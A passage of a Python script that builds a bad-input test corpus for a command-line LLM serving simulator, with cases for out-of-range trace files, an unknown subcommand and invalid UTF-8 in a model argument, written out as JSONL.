case("trace: minute input_tokens 1e12", TR, field="t.txt:2:input_tokens",
     files={"t.txt": "minute,rps,input_tokens,output_tokens\n0,5,1e12,100\n"})
case("trace: mean request beyond the context", ["simulate", "--model", "llama-2-7b", "--trace", "t.txt"], field="--trace",
     files={"t.txt": "minute,rps,input_tokens,output_tokens\n0,5,100000,100\n"})

# --- misc global -----------------------------------------------------------------------------
case("no such subcommand", ["bogus"], field="bogus")
case("--json error output with invalid utf-8 in field", ["--json", "memory", "--model", "hex:" + b"a\xffb".hex()], field="--model")

cases = [c for c in cases if c is not None]
out = os.path.join(os.path.dirname(__file__), "..", "tests", "bad_inputs", "cases.jsonl")
with open(out, "w") as f:
    f.write("# Bad-input corpus (issue 15), written by tools/gen_bad_inputs.py; run by bad_input_driver.\n")
    for c in cases:
        f.write(json.dumps(c, ensure_ascii=True) + "\n")
print(len(cases), "cases")
